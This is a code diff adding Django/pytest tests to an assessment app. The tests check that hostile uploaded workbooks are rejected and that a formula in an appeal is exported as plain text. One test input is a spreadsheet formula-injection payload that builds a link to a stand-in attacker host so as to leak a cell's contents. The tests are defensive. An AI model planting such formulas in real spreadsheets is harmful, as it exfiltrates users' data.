@@ -18,6 +18,7 @@ from openita.oit import offline, services
 from openita.oit.models import Disclosure, Status
 from openita.oit.tests.factories import Workspace, make_workspace
 from openita.oit.tests.test_workflow import APPEAL_TIME, SCORING_TIME
+from openita_testing.workbooks import hostile_workbooks
 
 
 @pytest.fixture
@@ -163,3 +164,52 @@ def test_the_command_imports_for_one_unit(world: World, space: Workspace, tmp_pa
             stdout=StringIO(),
             stderr=StringIO(),
         )
+
+
+@pytest.mark.parametrize("name", sorted(hostile_workbooks()))
+def test_a_hostile_workbook_gives_a_message_on_the_import_screen(
+    world: World, space: Workspace, name: str
+) -> None:
+    content = hostile_workbooks()[name]
+    with pytest.raises(ValidationError):
+        offline.read_workbook(content)
+    client = client_for(world, "assessor")
+    session = client.session
+    session["openita_fiscal_year"] = 2568
+    session.save()
+    response = client.post(
+        reverse("oit:import_scores"), {"file": SimpleUploadedFile("scores.xlsx", content)}
+    )
+    assert response.status_code in (200, 302)
+
+
+def test_a_formula_in_an_appeal_is_plain_text_in_the_assessors_export(
+    world: World, space: Workspace
+) -> None:
+    formula = '=HYPERLINK("http://evil.example/?leak="&A2,"ดูหลักฐาน")'
+    with time_machine.travel(SCORING_TIME, tick=False) as clock:
+        assessor = world.user("assessor")
+        for disclosure in Disclosure.objects.filter(assessment=space.assessment):
+            services.score(disclosure, assessor, score=Decimal(0), observation="-ขาดหลักฐาน")
+        services.release_scores(space.assessment, assessor)
+        clock.move_to(APPEAL_TIME)
+        services.file_appeal(space.item("O1"), world.user("unit_admin"), explanation=formula)
+        client = client_for(world, "assessor")
+        session = client.session
+        session["openita_fiscal_year"] = 2568
+        session.save()
+        response = client.get(reverse("oit:export_scores"))
+    assert response.status_code == 200
+    book = openpyxl.load_workbook(io.BytesIO(response.content))  # formulas kept as written
+    sheet = book.active
+    header = [cell.value for cell in sheet[1]]
+    cells = [
+        row[header.index(column)]
+        for row in sheet.iter_rows(min_row=2)
+        for column in ("appeal", "observation")
+    ]
+    written = {cell.value: cell for cell in cells if cell.value}
+    assert formula in written and "-ขาดหลักฐาน" in written
+    for cell in written.values():
+        assert cell.data_type == "s"  # text, not a formula
+    assert written[formula].quotePrefix
